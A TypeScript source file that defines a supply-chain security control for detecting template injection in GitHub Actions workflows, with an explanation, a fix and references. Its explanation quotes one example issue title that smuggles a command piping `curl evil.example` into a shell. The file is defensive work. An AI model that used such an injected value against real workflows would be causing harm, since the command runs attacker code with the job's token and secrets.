import type { Control } from '../../check.ts'
import { r30 } from './r30.ts'

export const noTemplateInjection: Control = {
  id: 'supply.no-template-injection',
  title: 'No text of others becomes code of a workflow',
  severity: 'high',
  why: 'An expression is put into the script before the shell reads it, so that an issue with the title `"; curl evil.example | sh #` runs that in the job, with its token and secrets.',
  remediation:
    'Give the value to the step as a variable, `env: { TITLE: "${{ github.event.issue.title }}" }`, and use it in the script as "$TITLE" (in github-script: `process.env.TITLE`).',
  references: [
    'https://docs.github.com/en/actions/concepts/security/script-injections',
    'https://docs.github.com/en/actions/reference/security/secure-use#use-an-intermediate-environment-variable',
    'https://securitylab.github.com/resources/github-actions-untrusted-input/',
    'https://docs.zizmor.sh/audits/#template-injection',
  ],
  rows: ['R30'],
  checks: [r30],
}
